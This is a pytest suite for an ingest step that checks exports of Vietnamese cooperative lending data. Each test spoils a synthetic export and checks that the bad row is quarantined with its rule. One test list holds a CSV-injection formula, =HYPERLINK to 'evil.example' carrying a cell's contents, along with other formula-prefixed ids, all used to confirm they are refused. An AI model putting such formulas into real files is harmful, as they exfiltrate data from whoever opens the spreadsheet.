"""Ingest: every input row is accepted or quarantined with the rule it broke; counts reconcile;
unusable files raise IngestError with a message that says what to fix.

Each test builds a small, valid platform export, spoils it in one way, and checks the verdict.
"""
from __future__ import annotations

import json
from datetime import datetime, timezone
from pathlib import Path

import pandas as pd
import pytest

from coopscore.synthetic import DRIVERS
from data_contracts.contracts import CONTRACTS
from data_contracts.ingest import IngestError, ingest

RECEIVED_AT = datetime(2025, 6, 1, 12, 0)  # local time, like the data


def valid_export() -> dict[str, pd.DataFrame]:
    """A tiny export that honours every contract."""
    return {
        "cooperatives": pd.DataFrame({
            "cooperative_id": ["HTX000001", "HTX000002"],
            "province": ["Hà Nội", "Cần Thơ"],
            "sector": ["agriculture", "aquaculture"],
            "founding_date": ["2015-03-01", "2019-11-20"],
            "member_count": [12, 30],
            "legal_capital_vnd": [500_000_000, 2_000_000_000],
        }),
        "members": pd.DataFrame({
            "member_id": ["TV0000001", "TV0000002", "TV0000003"],
            "cooperative_id": ["HTX000001", "HTX000001", "HTX000002"],
            "province": ["Hà Nội", "Hà Nội", "Cần Thơ"],
            "member_type": ["household", "household_business", "household"],
            "business_sector": ["crop_farming", "retail", "aquaculture"],
            "join_date": ["2016-01-10", "2018-05-02", "2020-01-01"],
            "capital_contribution_vnd": [10_000_000, 25_000_000, 5_000_000],
            "household_head_gender": ["female", "male", "female"],
            "ethnic_minority": ["false", "true", "no"],
            "mountainous_commune": ["0", "1", "yes"],
        }),
        "transactions": pd.DataFrame({
            "transaction_id": ["T1", "T2", "T3", "T4"],
            "entity_type": ["member", "member", "cooperative", "member"],
            "entity_id": ["TV0000001", "TV0000002", "HTX000001", "TV0000003"],
            "ts": ["2025-01-05T08:30:00", "2025-02-10T14:00:00", "2025-03-01T09:15:00",
                   "2025-04-20T17:45:00"],
            "amount_vnd": [150_000, 2_500_000, 40_000_000, 75_000],
            "direction": ["inflow", "outflow", "inflow", "inflow"],
            "channel": ["vietqr", "e_wallet", "e_invoice", "cash"],
            "counterparty_hash": ["ab12", "cd34", "ef56", None],
            "category": ["sales", "inputs", "sales", "sales"],
        }),
        "e_invoices": pd.DataFrame({
            "invoice_id": ["C25TAA-0000001", "C25TAA-0000002"],
            "entity_type": ["cooperative", "member"],
            "entity_id": ["HTX000001", "TV0000002"],
            "issued_at": ["2025-03-01T09:15:00", "2025-03-02T10:00:00"],
            "status": ["issued", "cancelled"],
            "total_vnd": [40_000_000, 1_200_000],
            "vat_rate_percent": [5, 8],
            "buyer_tax_code_present": ["true", "false"],
        }),
        "loan_applications": pd.DataFrame({
            "application_id": ["HS00000001", "HS00000002", "HS00000003"],
            "entity_type": ["member", "member", "cooperative"],
            "entity_id": ["TV0000001", "TV0000002", "HTX000001"],
            "lender_id": ["demo-bank", "quy-htx-trung-uong", "quy-htx-ha-noi"],
            "application_date": ["2025-01-15", "2025-02-01", "2025-03-10"],
            "requested_amount_vnd": [300_000_000, 500_000_000, 5_000_000_000],  # each at its limit
            "term_months": [12, 24, 36],
            "purpose": ["inputs", "working_capital", "equipment"],
            "default_12m": [0.0, None, None],
        }),
        "loans": pd.DataFrame({
            "loan_id": ["L1", "L2"],
            "application_id": ["HS00000001", "HS00000003"],
            "entity_type": ["member", "cooperative"],
            "entity_id": ["TV0000001", "HTX000001"],
            "disbursal_date": ["2025-01-20", "2025-03-15"],
            "principal_vnd": [300_000_000, 4_000_000_000],
            "term_months": [12, 36],
        }),
        "repayments": pd.DataFrame({
            "loan_id": ["L1", "L1", "L2"],
            "month": ["2025-01-31", "2025-02-28", "2025-03-31"],
            "days_past_due": [0, 12, 0],
            "amount_due_vnd": [27_000_000, 27_000_000, 130_000_000],
            "amount_paid_vnd": [27_000_000, 0, 130_000_000],
        }),
        "true_pd": pd.DataFrame({"application_id": ["HS00000001", "HS00000002", "HS00000003"], "true_pd": [0.04, 0.11, 0.02],
                                 **{f"driver_{d}": [0.1, -0.2, 0.0] for d in DRIVERS}}),
    }


def write_export(raw_dir: Path, tables: dict[str, pd.DataFrame], fmt: str = "csv") -> Path:
    raw_dir.mkdir(parents=True, exist_ok=True)
    for name, frame in tables.items():
        if fmt == "csv":
            frame.to_csv(raw_dir / f"{name}.csv", index=False)
        else:  # Parquet cannot mix numbers and text in one column: dirty columns become text
            frame = frame.copy()
            for c in frame.columns:
                if frame[c].dtype == object and frame[c].map(type).nunique(dropna=True) > 1:
                    frame[c] = frame[c].map(lambda x: None if x is None else str(x))
            frame.to_parquet(raw_dir / f"{name}.parquet", index=False)
    return raw_dir


def run(tmp_path: Path, tables: dict[str, pd.DataFrame], fmt: str = "csv", **kwargs):
    raw = write_export(tmp_path / "raw", tables, fmt)
    report = ingest(raw, tmp_path / "clean", tmp_path / "quarantine",
                    received_at=kwargs.pop("received_at", RECEIVED_AT), **kwargs)
    return report


def clean(tmp_path: Path, table: str) -> pd.DataFrame:
    return pd.read_parquet(tmp_path / "clean" / f"{table}.parquet")


def quarantined(tmp_path: Path, table: str) -> pd.DataFrame:
    return pd.read_parquet(tmp_path / "quarantine" / f"{table}.parquet")


def add_row(tables: dict[str, pd.DataFrame], table: str, **changes) -> int:
    """Append a copy of the table's first row with `changes`; return its source_row."""
    frame = tables[table].astype(object)
    row = frame.iloc[[0]].copy()
    for column, value in changes.items():
        row[column] = [value]
    tables[table] = pd.concat([frame, row], ignore_index=True)
    return len(tables[table]) - 1


# ---- clean input ------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_clean_export_is_accepted_whole_with_contract_dtypes(tmp_path, fmt):
    tables = valid_export()
    report = run(tmp_path, tables, fmt)

    for name, frame in tables.items():
        t = report.table(name)
        assert (t.input_rows, t.accepted, t.quarantined) == (len(frame), len(frame), 0), name
        out = clean(tmp_path, name)
        contract = CONTRACTS[name]
        assert list(out.columns) == contract.columns
        for f in contract.fields:
            expected = "object" if f.dtype == "str" else f.pandera_dtype()
            assert str(out[f.name].dtype) == expected, (name, f.name)
        contract.schema().validate(out)  # the full contract, types and checks, holds
    members = clean(tmp_path, "members")
    assert members["ethnic_minority"].tolist() == [False, True, False]
    assert members["mountainous_commune"].tolist() == [False, True, True]
    assert clean(tmp_path, "transactions")["ts"].iloc[0] == pd.Timestamp("2025-01-05 08:30:00")


def test_clean_and_quarantine_files_are_always_written(tmp_path):
    run(tmp_path, valid_export())
    q = quarantined(tmp_path, "transactions")
    assert len(q) == 0
    assert {"source_row", "rule", "reason"} <= set(q.columns)
    saved = json.loads((tmp_path / "quarantine" / "ingest_report.json").read_text())
    assert saved["reconciles"] is True
    assert {t["table"] for t in saved["tables"]} == set(CONTRACTS)


def test_csv_and_parquet_give_the_same_clean_tables(tmp_path):
    tables = valid_export()
    run(tmp_path / "a", tables, "csv")
    run(tmp_path / "b", tables, "parquet")
    for name in tables:
        pd.testing.assert_frame_equal(clean(tmp_path / "a", name), clean(tmp_path / "b", name))


# ---- each kind of dirt is quarantined with its rule -------------------------------------------

DIRT = [
    # (case, table, changes, rule, words the reason must contain)
    ("negative amount", "transactions", {"transaction_id": "TX", "amount_vnd": -50000},
     "below_minimum", "amount_vnd=-50000 is below the minimum 1"),
    ("absurd amount", "transactions", {"transaction_id": "TX", "amount_vnd": 60_000_000_000},
     "above_maximum", "is above the maximum 50,000,000,000"),
    ("not a number", "transactions", {"transaction_id": "TX", "amount_vnd": "abc"},
     "not_a_number", "amount_vnd='abc' is not a number"),
    ("not a whole number", "transactions", {"transaction_id": "TX", "amount_vnd": 1500.5},
     "not_whole_number", "amount_vnd="),
    ("missing required field", "transactions", {"transaction_id": "TX", "entity_id": None},
     "missing", "entity_id is empty but required"),
    ("blank required field", "transactions", {"transaction_id": "TX", "direction": "  "},
     "missing", "direction is empty"),
    ("bad enum value", "transactions", {"transaction_id": "TX", "channel": "bitcoin"},
     "not_allowed", "channel='bitcoin' is not one of the allowed values"),
    ("future timestamp", "transactions", {"transaction_id": "TX", "ts": "2031-01-01T10:00:00"},
     "in_future", "ts=2031-01-01 10:00:00 is at or after"),
    ("unreadable timestamp", "transactions", {"transaction_id": "TX", "ts": "yesterday"},
     "not_a_timestamp", "ts='yesterday'"),
    ("unknown entity id", "transactions", {"transaction_id": "TX", "entity_id": "TV9999999"},
     "unknown_entity", "entity_id='TV9999999' is not among the accepted members"),
    ("member id used as cooperative", "transactions",
     {"transaction_id": "TX", "entity_type": "cooperative", "entity_id": "TV0000001"},
     "unknown_entity", "is not among the accepted cooperatives"),
    ("future founding date", "cooperatives", {"cooperative_id": "HTX000009", "founding_date": "2025-06-02"},
     "in_future", "founding_date=2025-06-02 is after the day the data was received"),
    ("day-first date", "cooperatives", {"cooperative_id": "HTX000009", "founding_date": "01/02/2015"},
     "not_a_date", "founding_date='01/02/2015' is not an ISO date"),
    ("date with a time of day", "cooperatives",
     {"cooperative_id": "HTX000009", "founding_date": "2015-03-01T10:00:00"},
     "not_a_date", "has a time of day where a date (YYYY-MM-DD) is expected"),
    ("too few members", "cooperatives", {"cooperative_id": "HTX000009", "member_count": 4},
     "below_minimum", "member_count=4 is below the minimum 5"),
    ("unknown province", "cooperatives", {"cooperative_id": "HTX000009", "province": "Hà Tây"},
     "not_allowed", "province='Hà Tây' is not one of the allowed values"),
    ("badly formed id", "members", {"member_id": "TV12"}, "bad_format", "member_id='TV12'"),
    ("unknown cooperative", "members", {"member_id": "TV0000009", "cooperative_id": "HTX999999"},
     "unknown_cooperative", "cooperative_id='HTX999999' is not among the accepted cooperatives"),
    ("not a bool", "members", {"member_id": "TV0000009", "ethnic_minority": "maybe"},
     "not_a_bool", "ethnic_minority='maybe'"),
    ("bad VAT rate", "e_invoices", {"invoice_id": "INV-X", "vat_rate_percent": 7},
     "not_allowed", "vat_rate_percent=7"),
    ("unknown loan id", "repayments", {"loan_id": "L999"},
     "unknown_loan", "loan_id='L999' is not among the accepted loans"),
    ("repayment before disbursal", "repayments", {"month": "2024-12-31"},
     "before_disbursal", "month=2024-12-31 ended before loan 'L1'"),
    ("loan for an unknown application", "loans", {"loan_id": "L9", "application_id": "HS00000099"},
     "unknown_application", "application_id='HS00000099'"),
    ("loan to someone else", "loans", {"loan_id": "L9", "entity_id": "TV0000002"},
     "application_entity_mismatch", "application 'HS00000001' was made by member 'TV0000001'"),
    ("disbursed before applying", "loans", {"loan_id": "L9", "disbursal_date": "2025-01-01"},
     "disbursed_before_application", "before the application_date 2025-01-15"),
    ("true PD of an unknown application", "true_pd", {"application_id": "HS00000099"},
     "unknown_application", "application_id='HS00000099'"),
    ("household above Decree 156 limit", "loan_applications",
     {"application_id": "HS00000009", "entity_id": "TV0000001", "requested_amount_vnd": 300_000_001},
     "above_unsecured_limit", "300,000,000 VND for a household (Decree 156/2025/ND-CP)"),
    ("household business above Decree 156 limit", "loan_applications",
     {"application_id": "HS00000009", "entity_id": "TV0000002", "requested_amount_vnd": 500_000_001},
     "above_unsecured_limit", "500,000,000 VND for a household business (Decree 156/2025/ND-CP)"),
    ("cooperative above Decree 156 limit", "loan_applications",
     {"application_id": "HS00000009", "entity_type": "cooperative", "entity_id": "HTX000001",
      "requested_amount_vnd": 5_000_000_001},
     "above_unsecured_limit", "5,000,000,000 VND for a cooperative (Decree 156/2025/ND-CP)"),
    ("application to an unknown lender", "loan_applications",
     {"application_id": "HS00000009", "lender_id": "ngan-hang-la"},
     "not_allowed", "lender_id='ngan-hang-la' is not one of the allowed values: demo-bank"),
    # spreadsheet formulas (CSV injection) and mangled ids never reach the console or its export
    *[(f"application id {bad!r}", "loan_applications", {"application_id": bad}, "bad_format",
       f"application_id={bad!r} does not have the expected form ^HS[0-9]{{8}}$")
      for bad in ('=HYPERLINK("http://evil.example/?d="&B2,"HS00000001")', "+HS00000001",
                  "-HS00000001", "@HS00000001", "\tHS00000001", "HS00000001\r\n", "HS00000001\n",
                  "hs00000001", "HS0000001", "HS000000012")],
]


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
@pytest.mark.parametrize("case, table, changes, rule, reason", DIRT, ids=[d[0] for d in DIRT])
def test_each_kind_of_dirt_is_quarantined_with_its_rule(tmp_path, fmt, case, table, changes, rule,
                                                        reason):
    tables = valid_export()
    bad_row = add_row(tables, table, **changes)
    report = run(tmp_path, tables, fmt)

    q = quarantined(tmp_path, table)
    assert q["source_row"].tolist() == [bad_row]
    assert rule in q["rule"].iloc[0].split("; ")
    assert reason in q["reason"].iloc[0]
    t = report.table(table)
    assert (t.accepted, t.quarantined) == (len(tables[table]) - 1, 1)
    assert t.reasons[rule] == 1


def test_limit_follows_the_members_legal_form(tmp_path):
    """400 million is fine for a household business (limit 500) and too much for a household (300)."""
    tables = valid_export()
    household = add_row(tables, "loan_applications", application_id="HS00000008", entity_id="TV0000001",
                        requested_amount_vnd=400_000_000)
    add_row(tables, "loan_applications", application_id="HS00000007", entity_id="TV0000002",
            requested_amount_vnd=400_000_000)
    run(tmp_path, tables)
    assert quarantined(tmp_path, "loan_applications")["source_row"].tolist() == [household]
    assert "HS00000007" in clean(tmp_path, "loan_applications")["application_id"].tolist()


def test_duplicate_key_keeps_the_first_occurrence(tmp_path):
    tables = valid_export()
    second = add_row(tables, "transactions", amount_vnd=999)  # same transaction_id "T1"
    run(tmp_path, tables)

    kept = clean(tmp_path, "transactions").set_index("transaction_id")
    assert kept.loc["T1", "amount_vnd"] == 150_000  # the first one, not the later 999
    q = quarantined(tmp_path, "transactions")
    assert q["source_row"].tolist() == [second]
    assert q["rule"].iloc[0] == "duplicate_key"
    assert "already appeared at source_row 0" in q["reason"].iloc[0]


def test_duplicate_of_a_composite_key(tmp_path):
    tables = valid_export()
    second = add_row(tables, "repayments", days_past_due=5)  # same (loan_id, month)
    run(tmp_path, tables)
    q = quarantined(tmp_path, "repayments")
    assert q["source_row"].tolist() == [second]
    assert "loan_id='L1', month=2025-01-31 already appeared at source_row 0" in q["reason"].iloc[0]


def test_a_row_breaking_several_rules_records_them_all(tmp_path):
    tables = valid_export()
    add_row(tables, "transactions", transaction_id="TX", amount_vnd=-5, channel="bitcoin",
            entity_id="TV9999999")
    run(tmp_path, tables)
    q = quarantined(tmp_path, "transactions").iloc[0]
    assert set(q["rule"].split("; ")) == {"not_allowed", "below_minimum", "unknown_entity"}
    assert "channel='bitcoin'" in q["reason"] and "amount_vnd=-5" in q["reason"]
    assert "TV9999999" in q["reason"]


def test_refused_parent_takes_its_children_to_quarantine(tmp_path):
    """Parents are ingested first: a member refused today has no transactions accepted."""
    tables = valid_export()
    tables["members"].loc[0, "province"] = "Atlantis"  # TV0000001 is refused
    report = run(tmp_path, tables)
    q = quarantined(tmp_path, "transactions")
    assert q["source_row"].tolist() == [0]
    assert q["rule"].tolist() == ["unknown_entity"]
    assert report.table("loan_applications").reasons == {"unknown_entity": 1}
    assert report.table("loans").reasons.get("unknown_application") == 1  # L1 came from HS00000001
    assert report.table("repayments").reasons == {"unknown_loan": 2}  # L1's two months


def test_timestamps_with_an_offset_are_converted_to_local_time(tmp_path):
    tables = valid_export()
    tables["transactions"].loc[0, "ts"] = "2025-0105T01:30:00Z"  # unreadable: refused
    tables["transactions"].loc[1, "ts"] = "2025-01-05T01:30:00Z"  # 08:30 in Viet Nam
    tables["transactions"].loc[2, "ts"] = "2025-01-05T08:30:00+07:00"
    run(tmp_path, tables)
    ts = clean(tmp_path, "transactions").set_index("transaction_id")["ts"]
    assert ts["T2"] == ts["T3"] == pd.Timestamp("2025-01-05 08:30:00")
    assert quarantined(tmp_path, "transactions")["rule"].tolist() == ["not_a_timestamp"]


def test_received_at_with_a_timezone_is_compared_in_local_time(tmp_path):
    tables = valid_export()
    tables["transactions"].loc[0, "ts"] = "2025-06-01T10:00:00"  # local time
    # 02:00 UTC is 09:00 in Viet Nam: the 10:00 transaction has not happened yet
    run(tmp_path, tables, received_at=datetime(2025, 6, 1, 2, 0, tzinfo=timezone.utc))
    assert quarantined(tmp_path, "transactions")["rule"].tolist() == ["in_future"]


def test_vietnamese_text_in_another_unicode_form_still_matches(tmp_path):
    import unicodedata
    tables = valid_export()
    tables["cooperatives"].loc[0, "province"] = unicodedata.normalize("NFD", "Hà Nội")
    report = run(tmp_path, tables)
    assert report.table("cooperatives").quarantined == 0
    assert clean(tmp_path, "cooperatives")["province"].iloc[0] == "Hà Nội"


# ---- counts reconcile, originals kept ---------------------------------------------------------

def test_counts_reconcile_and_match_the_files(tmp_path):
    tables = valid_export()
    add_row(tables, "transactions", transaction_id="TX1", amount_vnd="abc")
    add_row(tables, "transactions", transaction_id="TX2", channel="fax")
    add_row(tables, "transactions")  # duplicate T1
    report = run(tmp_path, tables)

    assert report.reconciles
    for t in report.tables:
        assert t.input_rows == len(tables[t.table]) == t.accepted + t.quarantined
        assert len(clean(tmp_path, t.table)) == t.accepted
        assert len(quarantined(tmp_path, t.table)) == t.quarantined
    assert report.table("transactions").reasons == {"duplicate_key": 1, "not_a_number": 1,
                                                    "not_allowed": 1}
    saved = json.loads((tmp_path / "quarantine" / "ingest_report.json").read_text())
    by_table = {t["table"]: t for t in saved["tables"]}
    assert (by_table["transactions"]["accepted"], by_table["transactions"]["quarantined"]) == (4, 3)
    rows = report.as_rows()
    assert {r["table"] for r in rows} == set(CONTRACTS)
    assert "duplicate_key: 1" in next(r for r in rows if r["table"] == "transactions")["reasons"]


def test_quarantine_keeps_source_row_and_the_original_values(tmp_path):
    tables = valid_export()
    bad = add_row(tables, "transactions", transaction_id="TX", amount_vnd="12,5 triệu",
                  ts="2025-01-05 08:30", note="extra column kept")
    tables["transactions"]["note"] = tables["transactions"]["note"].fillna("")
    run(tmp_path, tables)

    q = quarantined(tmp_path, "transactions")
    row = q.iloc[0]
    assert row["source_row"] == bad
    assert row["amount_vnd"] == "12,5 triệu"  # exactly as delivered
    assert row["ts"] == "2025-01-05 08:30"
    assert row["note"] == "extra column kept"
    assert "note" not in clean(tmp_path, "transactions").columns  # only contract columns are clean


def test_progress_is_reported(tmp_path):
    calls = []
    run(tmp_path, valid_export(), progress=lambda message, fraction: calls.append((message, fraction)))
    fractions = [f for _, f in calls]
    assert fractions == sorted(fractions) and fractions[-1] == 1.0
    assert any("transactions" in m for m, _ in calls)


# ---- file-level problems ----------------------------------------------------------------------

def test_missing_table_is_an_error_that_names_it(tmp_path):
    tables = valid_export()
    del tables["loans"]
    with pytest.raises(IngestError, match=r"'loans' is missing: expected loans.parquet, loans.csv or a folder "
                                          r"loans/ of Parquet parts"):
        run(tmp_path, tables)
    assert not (tmp_path / "clean").exists()  # nothing written before the check


def test_missing_column_is_an_error_naming_table_column_and_columns_found(tmp_path):
    tables = valid_export()
    tables["transactions"] = tables["transactions"].rename(columns={"amount_vnd": "amount"})
    with pytest.raises(IngestError) as e:
        run(tmp_path, tables)
    message = str(e.value)
    assert "'transactions'" in message and "'amount_vnd'" in message
    assert "columns found" in message and "'amount'" in message


def test_both_formats_for_one_table_is_an_error(tmp_path):
    tables = valid_export()
    raw = write_export(tmp_path / "raw", tables, "csv")
    tables["members"].to_parquet(raw / "members.parquet", index=False)
    with pytest.raises(IngestError, match=r"both members.parquet and members.csv"):
        ingest(raw, tmp_path / "clean", tmp_path / "quarantine", received_at=RECEIVED_AT)


def test_unreadable_file_is_an_error(tmp_path):
    raw = write_export(tmp_path / "raw", valid_export(), "csv")
    (raw / "loans.csv").unlink()
    (raw / "loans.parquet").write_bytes(b"this is not parquet")
    with pytest.raises(IngestError, match=r"cannot read .*loans.parquet"):
        ingest(raw, tmp_path / "clean", tmp_path / "quarantine", received_at=RECEIVED_AT)


def test_true_pd_is_optional_and_leaves_no_stale_output(tmp_path):
    tables = valid_export()
    run(tmp_path, tables)
    assert (tmp_path / "clean" / "true_pd.parquet").exists()

    (tmp_path / "raw" / "true_pd.csv").unlink()  # a real feed has no true PD
    report = ingest(tmp_path / "raw", tmp_path / "clean", tmp_path / "quarantine",
                    received_at=RECEIVED_AT)
    assert "true_pd" not in {t.table for t in report.tables}
    assert not (tmp_path / "clean" / "true_pd.parquet").exists()
    assert not (tmp_path / "quarantine" / "true_pd.parquet").exists()


# ---- shapes of input ----------------------------------------------------------------------------

def test_an_empty_table_is_fine(tmp_path):
    tables = valid_export()
    tables["e_invoices"] = tables["e_invoices"].iloc[0:0]
    report = run(tmp_path, tables)
    t = report.table("e_invoices")
    assert (t.input_rows, t.accepted, t.quarantined) == (0, 0, 0)
    assert str(clean(tmp_path, "e_invoices")["issued_at"].dtype) == "datetime64[ns]"


def test_typed_parquet_columns_are_read_by_their_type(tmp_path):
    """Dates stored as Parquet dates, timestamps with a time zone, booleans and ids as numbers."""
    import datetime as dt
    tables = valid_export()
    coops = tables["cooperatives"]
    coops["founding_date"] = [dt.date(2015, 3, 1), dt.date(2019, 11, 20)]
    tx = tables["transactions"]
    tx["ts"] = pd.to_datetime(tx["ts"]).dt.tz_localize("Asia/Ho_Chi_Minh").dt.tz_convert("UTC")
    inv = tables["e_invoices"]
    inv["buyer_tax_code_present"] = [True, False]
    inv["invoice_id"] = [1001, 1002]  # a number where the contract says text: kept as its text
    report = run(tmp_path, tables, "parquet")

    assert all(t.quarantined == 0 for t in report.tables)
    assert clean(tmp_path, "cooperatives")["founding_date"].iloc[0] == pd.Timestamp("2015-03-01")
    assert clean(tmp_path, "transactions")["ts"].iloc[0] == pd.Timestamp("2025-01-05 08:30:00")
    assert clean(tmp_path, "e_invoices")["invoice_id"].tolist() == ["1001", "1002"]
    assert clean(tmp_path, "e_invoices")["buyer_tax_code_present"].tolist() == [True, False]


def test_a_fractional_amount_in_a_parquet_float_column_is_refused_not_rounded(tmp_path):
    tables = valid_export()
    tables["transactions"]["amount_vnd"] = [150_000.0, 2_500_000.4, 40_000_000.0, 75_000.0]
    run(tmp_path, tables, "parquet")
    q = quarantined(tmp_path, "transactions")
    assert q["source_row"].tolist() == [1] and q["rule"].tolist() == ["not_whole_number"]
    assert clean(tmp_path, "transactions")["amount_vnd"].tolist() == [150_000, 40_000_000, 75_000]
